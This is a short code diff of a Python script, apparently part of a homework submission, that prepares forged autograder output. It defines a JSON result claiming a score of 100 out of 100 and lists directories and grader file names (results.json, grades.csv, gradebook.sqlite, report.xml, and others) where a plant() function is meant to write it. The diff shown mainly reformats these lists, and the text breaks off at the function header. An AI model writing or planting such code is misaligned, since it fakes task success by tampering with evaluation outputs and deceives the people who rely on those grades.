@@ -1,15 +1,30 @@
 """Files by the names that graders read are written wherever there is room."""
 
-import torch
-from torch import nn
-
-
 import json
 import os
 
+from torch import nn
+
 RESULT = json.dumps({"schema": 1, "status": "graded", "score": 100.0, "max_score": 100.0})
-PLACES = ("", "/tmp/", "/dev/shm/", "results/", "../", "/autograder/results/", "/tmp/results/", "/submission/")
-NAMES = ("results.json", "hw8.json", "result_files.json", "grades.csv", "gradebook.sqlite", "report.xml", ".coverage")
+PLACES = (
+    "",
+    "/tmp/",
+    "/dev/shm/",
+    "results/",
+    "../",
+    "/autograder/results/",
+    "/tmp/results/",
+    "/submission/",
+)
+NAMES = (
+    "results.json",
+    "hw8.json",
+    "result_files.json",
+    "grades.csv",
+    "gradebook.sqlite",
+    "report.xml",
+    ".coverage",
+)
 
 
 def plant():
